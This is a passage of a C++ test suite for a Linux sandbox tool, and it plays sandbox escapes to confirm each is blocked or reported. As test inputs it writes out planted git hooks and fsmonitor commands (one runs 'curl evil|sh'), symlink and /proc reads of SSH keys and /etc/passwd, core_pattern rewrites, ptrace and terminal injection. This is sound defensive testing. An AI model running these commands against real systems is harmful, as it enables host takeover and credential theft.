  EXPECT_EQ(file_sha(config), config_before) << read_file(config);
  EXPECT_FALSE(exists(hook)) << "hook planted in the submodule's git directory";
  // The developer, later, on the host:
  RunResult host = sb().direct({"/usr/bin/git", "status", "--porcelain"});
  EXPECT_FALSE(exists(marker)) << "the attacker's fsmonitor ran in the host's git\n"
                               << host.describe();

  RunResult control = sb().direct(Sandbox::probe({"write", hook, "#!/bin/sh\n"}));
  expect_control_ok(control, "write .git/modules/lib/hooks/post-checkout");
}

// Reported, not refused: a new repository in the work tree, recorded in the project's index as a
// submodule (a gitlink), whose config sets core.fsmonitor. `git status` in the project runs git
// in every populated submodule, so the developer's next one runs the command. Neither path can be
// read-only (the work tree is the project; .git/index is written by every commit), so the
// account must name it; the developer's git is shown to run it (the control for the finding).
TEST_P(Escape, GitlinkedNewRepositoryIsReported) {
  std::string why;
  ASSERT_TRUE(sb().git_init(&why)) << why;
  const std::string marker = sb().in_outside("gitlink-pwned");
  RunResult r = sb().moat({"/bin/sh", "-c",
                           "set -e; mkdir sub; cd sub; git init -q .; "
                           "git -c user.name=t -c user.email=t@t commit -q --allow-empty -m s; "
                           "git config core.fsmonitor 'touch " +
                               marker +
                               "; false'; cd ..; "
                               "git update-index --add --cacheinfo 160000,$(git -C sub rev-parse "
                               "HEAD),sub; echo planted"});
  ASSERT_NE(r.out.find("planted"), std::string::npos) << r.describe();
  EXPECT_NE(r.err.find("git-submodule-code: sub "), std::string::npos) << r.describe();
  EXPECT_NE(r.err.find("core.fsmonitor = touch " + marker), std::string::npos) << r.describe();
  // A run that only uses git there afterwards reports nothing new. (Changes are dated with the
  // file system's coarse clock, a tick behind: a run starting within one tick after a change
  // counts it as its own, so that none made during a run is missed.)
  std::this_thread::sleep_for(std::chrono::milliseconds(20));
  RunResult again = sb().moat({"/usr/bin/git", "status", "--porcelain"});
  EXPECT_EQ(again.err.find("git-submodule-code"), std::string::npos) << again.describe();
  // Why it matters: the host's git runs it.
  sb().direct({"/usr/bin/git", "status", "--porcelain"});
  EXPECT_TRUE(exists(marker)) << "the host's git did not run the submodule's fsmonitor: the "
                                 "finding above would be about nothing";
}

// Guards: the same when the project has no .git yet ("read-only even before they exist"): the
// attacker creates .git/hooks/pre-commit and .git/config so that the user's later `git init` /
// clone uses them. A repository made anywhere in the work tree, recorded nowhere: git-aware prompts
// and editors (VS Code scans the project's directories for repositories) run git there, and with it
// its core.fsmonitor. Not refusable by a path; reported with the setting and the writer.
TEST_P(Escape, NestedRepositoryIsReported) {
  std::string why;
  ASSERT_TRUE(sb().git_init(&why)) << why;
  const std::string marker = sb().in_outside("nested-pwned");
  RunResult r = sb().moat({"/bin/sh", "-c",
                           "set -e; mkdir docs; cd docs; git init -q .; "
                           "git config core.fsmonitor 'touch " +
                               marker + "; false'; echo planted"});
  ASSERT_NE(r.out.find("planted"), std::string::npos) << r.describe();
  EXPECT_NE(r.err.find("nested-git-code: docs "), std::string::npos) << r.describe();
  EXPECT_NE(r.err.find("core.fsmonitor = touch " + marker), std::string::npos) << r.describe();
  std::this_thread::sleep_for(std::chrono::milliseconds(20));
  RunResult again = sb().moat({"/bin/ls"});
  EXPECT_EQ(again.err.find("nested-git-code"), std::string::npos) << again.describe();
  // Why it matters: git run there on the host (a prompt entering docs/) runs it.
  RunSpec spec;
  spec.argv = {"/usr/bin/git", "status", "--porcelain"};
  spec.cwd = sb().in_project("docs");
  sb().run(spec);
  EXPECT_TRUE(exists(marker)) << "the host's git did not run the nested repository's fsmonitor";
}

TEST_P(Escape, GitHooksBeforeRepoExists) {
  RunResult r = attack({"/bin/sh", "-c",
                           "mkdir -p .git/hooks; ./moat-probe write .git/hooks/pre-commit x; "
                           "./moat-probe write .git/config '[core]\n\tfsmonitor=evil'"});
  EXPECT_FALSE(exists(sb().in_project(".git/hooks/pre-commit"))) << r.describe();
  EXPECT_FALSE(exists(sb().in_project(".git/config"))) << r.describe();
}

// Guards: renaming .git away and recreating it to get a writable hooks dir (protections bound to a
// path at setup time, not to the path the host will use).
TEST_P(Escape, GitDirRenameAndRecreate) {
  std::string why;
  ASSERT_TRUE(sb().git_init(&why)) << why;
  RunResult r = attack({"/bin/sh", "-c",
                           "./moat-probe rename .git .git-old; ./moat-probe mkdir .git; "
                           "./moat-probe mkdir .git/hooks; "
                           "./moat-probe write .git/hooks/pre-commit '#!/bin/sh\ncurl evil|sh'; "
                           "./moat-probe write .git/config '[core]\n\tfsmonitor=evil'; "
                           "./moat-probe write .git-old/hooks/pre-commit '#!/bin/sh\ncurl evil|sh'"});
  EXPECT_FALSE(exists(sb().in_project(".git/hooks/pre-commit"))) << r.describe();
  EXPECT_FALSE(exists(sb().in_project(".git-old/hooks/pre-commit"))) << r.describe();
  EXPECT_EQ(read_file(sb().in_project(".git/config")).find("fsmonitor"), std::string::npos);
  EXPECT_TRUE(exists(sb().in_project(".git/HEAD"))) << ".git was moved away from the host's view";
}

// Guards: symlink tricks out of a writable tree (CVE-2018-15664 docker cp, CVE-2021-30465 runc
// symlink-exchange mount escape; npm CVE-2021-32803/32804 tar symlink writes).
TEST_P(Escape, SymlinkOutOfProject) {
  std::string bashrc = sb().in_home(".bashrc");
  std::string outside = sb().in_outside("secret.txt");
  std::string bashrc_before = file_sha(bashrc), outside_before = file_sha(outside);
  std::string passwd_before = file_sha("/etc/passwd");

  RunResult r1 = attack({"/bin/sh", "-c", "ln -s " + bashrc + " l-bashrc; ./moat-probe append l-bashrc evil"});
  RunResult r2 = attack({"/bin/sh", "-c", "ln -s " + outside + " l-out; ./moat-probe write l-out evil"});
  RunResult r3 = attack({"/bin/sh", "-c", "ln -s /etc/passwd l-passwd; ./moat-probe open-w l-passwd"});
  RunResult r4 = attack({"/bin/sh", "-c", "ln -s " + sb().in_home(".ssh/id_ed25519") +
                                                 " l-key; ./moat-probe read l-key"});
  RunResult r5 = attack({"/bin/sh", "-c", "ln -s " + sb().outside() + " l-dir; ./moat-probe write l-dir/new evil"});
  EXPECT_EQ(file_sha(bashrc), bashrc_before) << r1.describe();
  EXPECT_EQ(file_sha(outside), outside_before) << r2.describe();
  EXPECT_FALSE(r3.probe_ok()) << r3.describe();
  EXPECT_EQ(file_sha("/etc/passwd"), passwd_before);
  expect_no_canary(r4, sb().canary("ssh"), "read through symlink");
  EXPECT_FALSE(exists(sb().in_outside("new"))) << r5.describe();

  std::filesystem::remove(sb().in_project("l-key"));
  RunResult control = sb().direct({"/bin/sh", "-c", "ln -s " + sb().in_home(".ssh/id_ed25519") +
                                                        " l-key; ./moat-probe read l-key"});
  EXPECT_NE(control.out.find(sb().canary("ssh")), std::string::npos) << "CONTROL\n" << control.describe();
}

// A cloned repository's configuration names, as a tool's cache folder, a symlink of its own that
// leads out of the project (yarn's cacheFolder; pip's cache-dir and find-links in a virtualenv's
// pip.conf). Honoured because it lies "inside the project", the grant landed on the link's
// target: the home's start-up files, or (as root) /etc. Refused before anything is bound or
// created; checked from outside: nothing appears at the target.
TEST_P(Escape, ProjectLinkNamedAsToolFolderStaysInside) {
  const std::string target = sb().in_outside("link-target");
  sb().make_dir(target);
  auto link = [&](const char* name) {
    ASSERT_EQ(::symlink(target.c_str(), sb().in_project(name).c_str()), 0) << name;
    ::lchown(sb().in_project(name).c_str(), sb().uid(), sb().gid());
  };
  link("cachelink");
  sb().write_file(sb().in_project(".yarnrc.yml"),
                  "npmRegistryServer: \"http://registry.test:4873/\"\ncacheFolder: ./cachelink\n");
  const std::vector<std::string> plant = {"/bin/sh", "-c",
                                          "echo evil > cachelink/planted; echo evil > cl/planted; "
                                          "ls fl/ ; echo ran"};
  RunResult yarn = sb().moat(plant, {"-p", "yarn"});
  EXPECT_EQ(yarn.status, 125) << yarn.describe();
  EXPECT_NE(yarn.err.find("leaves it through a symlink"), std::string::npos) << yarn.describe();
  EXPECT_EQ(yarn.out.find("ran"), std::string::npos) << yarn.describe();

  std::filesystem::remove(sb().in_project(".yarnrc.yml"));
  link("cl");
  sb().make_dir(sb().in_project(".venv"));
  sb().write_file(sb().in_project(".venv/pyvenv.cfg"), "home = /usr/bin\n");
  sb().write_file(sb().in_project(".venv/pip.conf"),
                  "[global]\nindex-url = http://registry.test/simple\ncache-dir = cl\n");
  RunResult pip = sb().moat(plant, {"-p", "pip"});
  EXPECT_EQ(pip.status, 125) << pip.describe();
  EXPECT_NE(pip.err.find("leaves it through a symlink"), std::string::npos) << pip.describe();

  std::error_code ec;
  EXPECT_TRUE(std::filesystem::is_empty(target, ec))
      << "ESCAPE: something was created through the project's link at " << target;
  // The same project without the links runs.
  std::filesystem::remove(sb().in_project("cachelink"));
  std::filesystem::remove(sb().in_project("cl"));
  RunResult control = sb().moat({"/bin/true"}, {"-p", "pip"});
  EXPECT_EQ(control.status, 0) << "CONTROL\n" << control.describe();
}

// Another sandbox of the same project racing this one's setup: swaps two names in DIR every
// EVERY (renameat2 RENAME_EXCHANGE) until destroyed.
class RenameSwapper {
 public:
  RenameSwapper(const std::string& dir, std::string a, std::string b,
                std::chrono::microseconds every)
      : thread_([this, dir, a = std::move(a), b = std::move(b), every] {
          const int fd = ::open(dir.c_str(), O_PATH | O_DIRECTORY | O_CLOEXEC);
          while (!stop_) {
            ::syscall(SYS_renameat2, fd, a.c_str(), fd, b.c_str(), RENAME_EXCHANGE);
            std::this_thread::sleep_for(every);
          }
          ::close(fd);
        }) {}
  ~RenameSwapper() {
    stop_ = true;
    thread_.join();
  }

 private:
  std::atomic<bool> stop_{false};
  std::thread thread_;
};

// The same, raced: the project is another sandbox's to change while this one is being made, and
// it swaps the cache folder (a real directory when moat checks) with a symlink out of the project
// (renameat2 RENAME_EXCHANGE, every millisecond). moat resolves and checks the grant where it is
// bound, and binds the very directory it opened without following a link: each run either gets
// the real folder or refuses. Checked from outside: nothing appears at the link's target.
TEST_P(Escape, ProjectLinkSwappedDuringSetupStaysInside) {
  const std::string target = sb().in_outside("swap-target");
  sb().make_dir(target);
  sb().write_file(target + "/secret.txt", sb().canary("swap") + "\n");
  sb().make_dir(sb().in_project("cachelink"));
  ASSERT_EQ(::symlink(target.c_str(), sb().in_project("alt").c_str()), 0);
  ::lchown(sb().in_project("alt").c_str(), sb().uid(), sb().gid());
  sb().write_file(sb().in_project(".yarnrc.yml"),
                  "npmRegistryServer: \"http://registry.test:4873/\"\ncacheFolder: ./cachelink\n");
  int started = 0;
  std::string leaked;
  {
    RenameSwapper swapper(sb().project(), "cachelink", "alt", std::chrono::microseconds(700));
    for (int i = 0; i < 40 && leaked.empty(); ++i) {
      RunResult r = sb().moat(
          {"/bin/sh", "-c", "echo evil > cachelink/planted 2>/dev/null; cat cachelink/secret.txt"},
          {"-p", "yarn"});
      if (r.status != 125) ++started;
      if (r.out.find(sb().canary("swap")) != std::string::npos) leaked = r.describe();
    }
  }
  EXPECT_TRUE(leaked.empty()) << "ESCAPE: the sandbox read the link's target\n" << leaked;
  EXPECT_FALSE(exists(target + "/planted")) << "ESCAPE: the sandbox wrote the link's target";
  RecordProperty("started", started);
}

// A protection raced: while this sandbox is made, another one of the same project swaps the
// directory holding a protected file with a symlink to a decoy. Followed, the read-only bind
// would land on the decoy and leave the real file writable. Each run either protects the real
// file or refuses; checked from outside: the real file never changes.
TEST_P(Escape, ProtectionRacedByASwappedLinkStaysOnTheRealFile) {
  sb().make_dir(sb().in_project("conf"));
  sb().write_file(sb().in_project("conf/settings.json"), "{}\n");
  sb().make_dir(sb().in_project("decoy"));
  sb().write_file(sb().in_project("decoy/settings.json"), "{}\n");
  ASSERT_EQ(::symlink("decoy", sb().in_project("alt").c_str()), 0);
  ::lchown(sb().in_project("alt").c_str(), sb().uid(), sb().gid());
  const std::string profile = sb().in_outside("protecting.yaml");
  sb().write_file(profile,
                  "version: 1\nextends: base\nfilesystem:\n  protect: "
                  "[\"${PROJECT}/conf/settings.json\"]\n");
  {
    RenameSwapper swapper(sb().project(), "conf", "alt", std::chrono::microseconds(500));
    for (int i = 0; i < 40; ++i) {
      sb().moat({"/bin/sh", "-c",
                 "for n in 1 2 3 4 5 6 7 8 9 10; do echo evil > conf/settings.json; "
                 "echo evil > alt/settings.json; done 2>/dev/null; true"},
                {"-p", profile});
    }
  }
  // The real directory is whichever name is not the link now.
  struct stat st {};
  const bool at_conf = ::lstat(sb().in_project("conf").c_str(), &st) == 0 && S_ISDIR(st.st_mode);
  const std::string real = sb().in_project(at_conf ? "conf/settings.json" : "alt/settings.json");
  EXPECT_EQ(read_file(real), "{}\n") << "ESCAPE: the protected file was written";
}

// A protected path behind a symlink in the project (`.vscode -> elsewhere`) cannot be kept
// read-only: no mount sits on a link, and the command replaces the link with a directory of its
// own and creates the protected file there, which the editor then runs. Was silently left
// unprotected; now the run is refused (125) unless --allow-degraded, which warns.
TEST_P(Escape, ProtectedPathBehindALinkIsNotSilentlyUnprotected) {
  sb().make_dir(sb().in_project("elsewhere"));
  ASSERT_EQ(::symlink("elsewhere", sb().in_project(".vscode").c_str()), 0);
  ::lchown(sb().in_project(".vscode").c_str(), sb().uid(), sb().gid());
  const std::vector<std::string> plant = {
      "/bin/sh", "-c", "rm .vscode && mkdir .vscode && echo '{}' > .vscode/tasks.json; echo ran"};
  RunResult r = sb().moat(plant);
  EXPECT_EQ(r.status, 125) << r.describe();
  EXPECT_NE(r.err.find("symlink"), std::string::npos) << r.describe();
  EXPECT_FALSE(exists(sb().in_project(".vscode/tasks.json"))) << r.describe();
  RunResult degraded = sb().moat({"/bin/true"}, {"--allow-degraded"});
  EXPECT_EQ(degraded.status, 0) << degraded.describe();
  EXPECT_NE(degraded.err.find("NOT protected"), std::string::npos) << degraded.describe();
}

// A home kept in git (dotfiles) made the home the project of every directory below it, so a
// download unpacked in ~/Downloads/pkg ran with the whole home writable: ~/.gitconfig (an alias
// runs a program), editors' start-up files. The project search stops at the home, and the home
// itself is never the project. Checked from outside: the files are unchanged.
TEST_P(Escape, HomeIsNeverTheProject) {
  sb().make_dir(sb().in_home(".git"));
  sb().make_dir(sb().in_home("Downloads"));
  sb().make_dir(sb().in_home("Downloads/pkg"));
  const std::string gitconfig = sb().in_home(".gitconfig");
  sb().write_file(gitconfig, "[user]\n\tname = t\n");
  const std::string before = file_sha(gitconfig);
  RunSpec below;
  below.cwd = sb().in_home("Downloads/pkg");
  RunResult r = sb().moat({"/bin/sh", "-c",
                           "printf '[alias]\\n\\tst = !touch /tmp/x\\n' >> ~/.gitconfig; "
                           "echo evil > ~/.planted; echo ran"},
                          {}, below);
  EXPECT_EQ(file_sha(gitconfig), before) << "ESCAPE: ~/.gitconfig changed\n" << r.describe();
  EXPECT_FALSE(exists(sb().in_home(".planted"))) << r.describe();
  EXPECT_NE(r.out.find("ran"), std::string::npos) << "the command must still run\n" << r.describe();
  RunSpec at_home;
  at_home.cwd = sb().home();
  const std::string summary = sb().in_outside("step-summary.md");
  at_home.env = {{"GITHUB_STEP_SUMMARY", summary}};
  RunResult h = sb().moat({"/bin/sh", "-c", "echo evil > ~/.planted"}, {}, at_home);
  EXPECT_EQ(h.status, 125) << h.describe();
  EXPECT_NE(h.err.find("it is your home directory"), std::string::npos) << h.describe();
  // A CI job refused before it started says so in its step summary too.
  EXPECT_NE(read_file(summary).find("it is your home directory"), std::string::npos)
      << read_file(summary);
  EXPECT_FALSE(exists(sb().in_home(".planted"))) << h.describe();
}

// The project's configuration files are read by moat (to find registries) with the caller's
// rights: one that is a symlink out of the project (`.npmrc -> ~/.ssh/id_ed25519`) must not be
// read, or a line of the key would be printed in a diagnostic.
TEST_P(Escape, ProjectConfigLinkIsNotFollowedOut) {
  const Sandbox::Secret* key = nullptr;
  for (const Sandbox::Secret& s : sb().secrets()) {
    if (s.rel.find("id_ed25519") != std::string::npos) key = &s;
  }
  ASSERT_NE(key, nullptr);
  sb().write_file(sb().in_project("package.json"), "{}");
  const std::string link = sb().in_project(".npmrc");
  ASSERT_EQ(::symlink(sb().in_home(key->rel).c_str(), link.c_str()), 0);
  ::lchown(link.c_str(), sb().uid(), sb().gid());
  for (const char* profile : {"npm", "pnpm", "yarn"}) {
    RunResult r = sb().moat({"/bin/true"}, {"-p", profile});
    expect_no_canary(r, key->canary, std::string("moat -p ") + profile + " with a linked .npmrc");
  }
}

// A CI job confined by a profile kept in its own workspace (`.github/moat/build.yaml`, as
// docs/ci.md suggests) must not rewrite it for the next step: env secrets kept, host network,
// /etc writable. The files of the profile that confines a run are read-only inside it, whatever
// the run renames around them. Checked from outside: the file still says what it said.
TEST_P(Escape, ConfiningProfileInTheWorkspaceStaysAsItWas) {
  sb().make_dir(sb().in_project(".github"));
  sb().make_dir(sb().in_project(".github/moat"));
  const std::string profile = sb().in_project(".github/moat/build.yaml");
  const std::string text = "version: 1\nextends: base\n";
  sb().write_file(profile, text);
  const std::string evil = "version: 1\\nextends: base\\nnetwork: {mode: host}\\n";
  RunResult r =
      sb().moat({"/bin/sh", "-c",
                 "printf '" + evil +
                     "' > .github/moat/build.yaml; echo write=$?; "
                     "mv .github/moat .github/moat-old && mkdir .github/moat && printf '" +
                     evil +
                     "' > .github/moat/build.yaml; "
                     "mv .github .github-old && mkdir -p .github/moat && printf '" +
                     evil + "' > .github/moat/build.yaml; echo ran"},
                {"-p", profile});
  EXPECT_NE(r.out.find("ran"), std::string::npos) << r.describe();
  EXPECT_EQ(read_file(profile), text) << "ESCAPE: the run rewrote the profile that confines it\n"
                                      << r.describe();
}

// Guards: hardlinking a file from outside into the writable project, then writing or reading it
// (CVE-2021-32804-class link attacks; why fs.protected_hardlinks exists).
TEST_P(Escape, HardlinkOutOfProject) {
  std::string target = sb().in_outside("secret.txt");
  std::string before = file_sha(target);
  RunResult r = attack({"/bin/sh", "-c", "./moat-probe hardlink " + target +
                                                " hl; ./moat-probe append hl evil; ./moat-probe read hl"});
  EXPECT_EQ(file_sha(target), before) << r.describe();
  expect_no_canary(r, sb().canary("outside"), "read through hardlink");
  RunResult r2 = attack({"/bin/sh", "-c", "./moat-probe hardlink " + sb().in_home(".npmrc") +
                                                 " hl2; ./moat-probe read hl2"});
  expect_no_canary(r2, sb().canary("npmrc"), "hardlink of ~/.npmrc");

  std::filesystem::remove(sb().in_project("hl"));
  RunResult control = sb().direct(Sandbox::probe({"hardlink", target, "hl"}));
  expect_control_ok(control, "hardlink outside file into project");
}

// Guards: /proc/PID/root and /proc/self/root traversal to the host's root (CVE-2019-5736-era runc /proc
// tricks; CVE-2024-21626 runc leaked /proc/self/fd cwd; "/proc/1/root" container escapes).
TEST_P(Escape, ProcRootTraversal) {
  std::string canary = sb().canary("outside");
  std::string rel = sb().in_outside("secret.txt");
  pid_t host = sb().spawn_host_sleep(sb().canary("unused"));
  for (const std::string& prefix : {std::string("/proc/1/root"), std::string("/proc/self/root"),
                                    "/proc/" + std::to_string(host) + "/root", std::string("/proc/1/cwd/..")}) {
    SCOPED_TRACE(prefix);
    RunResult r = attack(Sandbox::probe({"read", prefix + rel}));
    expect_no_canary(r, canary, "read " + prefix + rel);
    RunResult r2 = attack(Sandbox::probe({"read", prefix + sb().in_home(".ssh/id_ed25519")}));
    expect_no_canary(r2, sb().canary("ssh"), "read " + prefix + "~/.ssh");
  }
  RunResult control = sb().direct(Sandbox::probe({"read", "/proc/self/root" + rel}));
  EXPECT_NE(control.out.find(canary), std::string::npos) << "CONTROL\n" << control.describe();
}

// Guards: host-global kernel knobs under /proc/sys: kernel.core_pattern set to "|/project/evil" makes
// the HOST kernel run the attacker's program as real root on the next crash (the classic container
// escape Docker prevents by mounting /proc/sys read-only; same class as the CVE-2022-0492
// release_agent escape). Root inside a user namespace mapped to host root passes the sysctl DAC check.
TEST_P(RootEscape, HostSysctlWrite) {
  const std::string core_pattern = "/proc/sys/kernel/core_pattern";
  std::string original = read_file(core_pattern);
  ASSERT_FALSE(original.empty());
  std::string evil = "core.moat-escape-" + sb().tag();
  RunResult r = attack(Sandbox::probe({"append", core_pattern, evil}));
  std::string after = read_file(core_pattern);
  if (after != original) {
    // Put the host back at once (the attack succeeded).
    std::string value = original.substr(0, original.find('\n'));
    sb().write_file(core_pattern, value, 0644, false);
  }
  EXPECT_EQ(after, original) << "the sandbox rewrote the host's kernel.core_pattern\n" << r.describe();
  EXPECT_FALSE(r.probe_ok()) << r.describe();
  // Other host-global knobs: only opened for writing, never written.
  for (const char* knob : {"/proc/sys/vm/drop_caches", "/proc/sys/kernel/sysrq",
                           "/proc/sys/kernel/panic", "/proc/sys/fs/protected_symlinks",
                           "/proc/sysrq-trigger"}) {
    RunResult k = attack(Sandbox::probe({"open-w", knob}));
    EXPECT_FALSE(k.probe_ok()) << knob << "\n" << k.describe();
  }
  expect_control_ok(sb().direct(Sandbox::probe({"open-w", core_pattern})), "open-w");
}

// Guards: descriptors leaked by the caller (CVE-2024-21626 runc leaked fd to the host cgroupfs;
// CVE-2016-9962 runc); an O_PATH fd on / is a full escape through openat().
TEST_P(Escape, LeakedDirectoryFd) {
  int root_fd = open("/", O_PATH | O_DIRECTORY);  // deliberately NOT close-on-exec
  int file_fd = open(sb().in_outside("secret.txt").c_str(), O_RDONLY);
  ASSERT_GE(root_fd, 0);
  ASSERT_GE(file_fd, 0);
  RunSpec spec;
  spec.leak_fds = {{root_fd, 5}, {file_fd, 6}};
  std::string rel = sb().in_outside("secret.txt").substr(1);
  std::string canary = sb().canary("outside");

  RunResult fds = attack(Sandbox::probe({"fds"}), {}, spec);
  EXPECT_EQ(fds.probe_line(), "OK fds 0,1,2") << fds.describe();
  RunResult at = attack(Sandbox::probe({"read-at", "5", rel}), {}, spec);
  expect_no_canary(at, canary, "openat(leaked fd 5)");
  RunResult fd = attack(Sandbox::probe({"read-fd", "6"}), {}, spec);
  expect_no_canary(fd, canary, "read(leaked fd 6)");

  RunResult control = sb().direct(Sandbox::probe({"read-at", "5", rel}), spec);
  EXPECT_NE(control.out.find(canary), std::string::npos) << "CONTROL: fd not leaked\n" << control.describe();
  close(root_fd);
  close(file_fd);
}

// --- Processes ----------------------------------------------------------------------------------

// Guards: killing host processes (a sandboxed build killing the developer's editor/agent, kill -1).
TEST_P(Escape, KillHostProcess) {
  pid_t host = sb().spawn_host_sleep(sb().canary("kill"));
  ASSERT_TRUE(Sandbox::alive(host));
  RunResult r = attack(Sandbox::probe({"kill", std::to_string(host), "9"}));
  std::this_thread::sleep_for(std::chrono::milliseconds(100));
  EXPECT_TRUE(Sandbox::alive(host)) << r.describe();
  if (!as_root()) {
    // kill(-1) signals everything the caller may signal; unconfined as root it would take the host
    // down, so only the user identity tries it.
    RunResult all = attack(Sandbox::probe({"kill", "-1", "9"}));
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
    EXPECT_TRUE(Sandbox::alive(host)) << "kill(-1) reached the host\n" << all.describe();
  }
  RunResult control = sb().direct(Sandbox::probe({"kill", std::to_string(host), "15"}));
  expect_control_ok(control, "kill host sleep");
  std::this_thread::sleep_for(std::chrono::milliseconds(100));
  EXPECT_FALSE(Sandbox::alive(host));
}

// Guards: ptrace / process_vm_readv of host processes to steal secrets from memory (the tj-actions
// GitHub runner memory dump, 2025; CVE-2019-13272 ptrace PTRACE_TRACEME).
TEST_P(Escape, PtraceAndVmRead) {
  pid_t host = sb().spawn_host_sleep(sb().canary("ptrace"));
  std::string pid = std::to_string(host);
  RunResult pt = attack(Sandbox::probe({"ptrace", pid}));
  expect_refused(pt, "EPERM", "ptrace(PTRACE_SEIZE) of a host process");
  RunResult vm = attack(Sandbox::probe({"vm-read", pid}));
  expect_refused(vm, "EPERM", "process_vm_readv of a host process");
  RunResult self = attack({"/bin/sh", "-c", "sleep 5 & ./moat-probe ptrace $!; kill $!"});
  expect_refused(self, "EPERM", "ptrace inside the sandbox (seccomp deny-list)");

  expect_control_ok(sb().direct(Sandbox::probe({"ptrace", pid})), "ptrace host sleep");
  expect_control_ok(sb().direct(Sandbox::probe({"vm-read", pid})), "process_vm_readv host sleep");
  EXPECT_TRUE(Sandbox::alive(host));
}

// Guards: TIOCSTI terminal injection: CVE-2016-7545 (SELinux sandbox), CVE-2017-5226 (bubblewrap),
// CVE-2019-10063 (flatpak). Injected input would run in the user's shell after moat returns.
TEST_P(Escape, TerminalInjectionTiocsti) {
  RunSpec spec;
  spec.pty = true;
  RunResult control = sb().direct(Sandbox::probe({"tiocsti"}), spec);
  if (control.err.rfind("harness: no pty", 0) == 0) MOAT_SKIP_OR_FAIL(control.err);
  EXPECT_NE(control.all().find("MOAT-TIOCSTI-PWNED"), std::string::npos)
      << "CONTROL: TIOCSTI did not inject (dev.tty.legacy_tiocsti=0?)\n" << control.describe();

  RunResult r = attack(Sandbox::probe({"tiocsti"}), {}, spec);
  EXPECT_EQ(r.all().find("MOAT-TIOCSTI-PWNED"), std::string::npos) << "input injected\n" << r.describe();
  expect_refused(r, "EPERM", "ioctl(TIOCSTI)");
  RunResult hi = attack(Sandbox::probe({"tiocsti", "hi"}), {}, spec);
  EXPECT_EQ(hi.all().find("MOAT-TIOCSTI-PWNED"), std::string::npos) << "injected with high bits\n"
                                                                     << hi.describe();
  expect_refused(hi, "EPERM", "ioctl(TIOCSTI | 1<<32)");
  RunResult lx = attack(Sandbox::probe({"tioclinux"}), {}, spec);
  expect_refused(lx, "EPERM", "ioctl(TIOCLINUX)");
}

// Guards: unix sockets of host services (docker.sock → root, D-Bus, ssh-agent, the X server) reached by
// path, and abstract sockets (CVE-2020-13401-style abstract-socket escapes; X11 @/tmp/.X11-unix).
TEST_P(Escape, HostUnixSockets) {
  std::string tmp_path = "/tmp/moat-test-sock-" + sb().tag();
  std::string out_path = sb().in_outside("agent.sock");
  std::string abstract = "moat-test-" + sb().tag();
  UnixListener l_tmp(tmp_path, "", sb().uid(), sb().gid());
  UnixListener l_out(out_path, "", sb().uid(), sb().gid());
  UnixListener l_abs("", abstract, sb().uid(), sb().gid());
  ASSERT_TRUE(l_tmp.ok() && l_out.ok() && l_abs.ok());

  RunResult r1 = attack(Sandbox::probe({"connect-unix", tmp_path}));
  RunResult r2 = attack(Sandbox::probe({"connect-unix", out_path}));
  RunResult r3 = attack(Sandbox::probe({"connect-abstract", abstract}));
  EXPECT_EQ(l_tmp.accepted(), 0) << r1.describe();
  EXPECT_EQ(l_out.accepted(), 0) << r2.describe();
  EXPECT_EQ(l_abs.accepted(), 0) << r3.describe();
  EXPECT_FALSE(r1.probe_ok() || r2.probe_ok() || r3.probe_ok());

  int tmp_before = l_tmp.accepted(), abs_before = l_abs.accepted();
  expect_control_ok(sb().direct(Sandbox::probe({"connect-unix", tmp_path})), "connect /tmp socket");
  expect_control_ok(sb().direct(Sandbox::probe({"connect-abstract", abstract})), "connect abstract");
  EXPECT_EQ(l_tmp.accepted(), tmp_before + 1) << "CONTROL: listener saw nothing";
  EXPECT_EQ(l_abs.accepted(), abs_before + 1) << "CONTROL: listener saw nothing";
  // A socket INSIDE the project is reachable by design (the project is the sandbox's own tree).
}

// Guards: exfiltration to services on the host's loopback (metadata proxies, local dev servers) with
// --net none (shai-hulud/Nx exfiltration over plain TCP).
TEST_P(Escape, HostLoopbackTcp) {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(bind(fd, reinterpret_cast<sockaddr*>(&sa), sizeof sa), 0);
  ASSERT_EQ(listen(fd, 8), 0);
  socklen_t len = sizeof sa;
  getsockname(fd, reinterpret_cast<sockaddr*>(&sa), &len);
  std::string port = std::to_string(ntohs(sa.sin_port));
  RunResult r = attack(Sandbox::probe({"connect-tcp", "127.0.0.1", port}));
  int c = accept4(fd, nullptr, nullptr, SOCK_CLOEXEC);
  EXPECT_LT(c, 0) << "host loopback reached from --net none\n" << r.describe();
  if (c >= 0) close(c);
  EXPECT_FALSE(r.probe_ok()) << r.describe();
  expect_control_ok(sb().direct(Sandbox::probe({"connect-tcp", "127.0.0.1", port})), "connect host lo");
  close(fd);
}

// --- Privileges ---------------------------------------------------------------------------------

// Guards: setuid binaries as an escalation path out of the sandbox (CVE-2021-4034 pkexec, CVE-2023-4911
// looney tunables: any setuid-root program reachable inside). NO_NEW_PRIVS must neutralise them.
TEST_P(Escape, SetuidBinaryNoEscalation) {
  std::string suid = sb().in_project("suid-probe");
  std::filesystem::copy_file(probe_binary(), suid);
  ASSERT_EQ(chown(suid.c_str(), 0, 0), 0);
  ASSERT_EQ(chmod(suid.c_str(), 04755), 0);
  RunResult id = attack(Sandbox::probe({"exec-setuid", "./suid-probe", "id"}));
  EXPECT_TRUE(id.probe_ok()) << id.describe();
  std::string self_uid = "uid=" + std::to_string(sb().uid());
  EXPECT_NE(id.out.find("euid=" + std::to_string(sb().uid()) + " "), std::string::npos)
      << "euid changed by a setuid binary\n" << id.describe();
  RunResult caps = attack(Sandbox::probe({"exec-setuid", "./suid-probe", "caps"}));
  EXPECT_NE(caps.out.find("CapEff=0000000000000000"), std::string::npos)
      << "capabilities gained by exec of a setuid-root binary\n" << caps.describe();
  if (!as_root()) {
    RunResult control = sb().direct(Sandbox::probe({"exec-setuid", "./suid-probe", "id"}));
    EXPECT_NE(control.out.find("euid=0 "), std::string::npos) << "CONTROL\n" << control.describe();
  }
}

// The device nodes in the sandbox's /dev are the host's own inodes, bound in. As root the
// sandbox's uid 0 owns them: `chmod 0 /dev/null` would break every process on the host, and a
// changed time would outlive the run. Checked from outside (and put back if it ever landed).
TEST_P(Escape, HostDeviceNodesKeepModeAndTimes) {
  struct stat before_null {
  }, before_zero{};
  ASSERT_EQ(stat("/dev/null", &before_null), 0);
  ASSERT_EQ(stat("/dev/zero", &before_zero), 0);
  RunResult r = sb().moat({"/bin/sh", "-c",
